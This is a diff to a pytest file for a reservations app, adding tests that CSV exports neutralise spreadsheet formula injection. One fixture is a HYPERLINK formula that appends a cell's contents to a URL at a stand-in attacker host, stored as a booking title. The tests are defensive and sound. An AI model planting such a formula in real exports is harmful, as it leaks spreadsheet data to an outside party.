@@ -1,5 +1,8 @@
 """A site's schedule for a day or a week: to print, or as CSV; colleagues' bookings stay 'Booked'."""
 
+import csv
+import io
+
 import pytest
 
 from reservations import services
@@ -40,3 +43,27 @@ def test_the_week_as_csv(client, site_admin, site_a, day_of_bookings):
 def test_a_malformed_query_is_a_400(client, member, site_a, query):
     client.force_login(member)
     assert client.get(f"/calendar/{site_a.slug}/schedule/?{query}").status_code == 400
+
+
+def test_text_a_spreadsheet_would_run_is_escaped_in_every_export(client, admin_client, site_admin, site_a, tree):
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    services.reservation_create(actor=site_admin, resource=tree["gpu0"], start=at(1, 9), end=at(1, 10), title=evil)
+    client.force_login(site_admin)
+    schedule = client.get(f"/calendar/{site_a.slug}/schedule/", {"date": at(1, 0).date().isoformat(), "format": "csv"})
+    admin_export = admin_client.post(
+        "/admin/reservations/reservation/",
+        {"action": "export_csv", "_selected_action": list(services.Reservation.objects.values_list("pk", flat=True))},
+    )
+    audit_export = admin_client.get("/api/audit-log/export/")
+    for export in (schedule.content, admin_export.content, b"".join(audit_export.streaming_content)):
+        cells = [cell for row in csv.reader(io.StringIO(export.decode())) for cell in row]
+        assert any(evil in cell for cell in cells)
+        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised(start):
+    from common.spreadsheet import safe_cell
+
+    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
+    assert safe_cell(-3) == -3 and safe_cell(None) == "" and safe_cell("plain") == "plain"
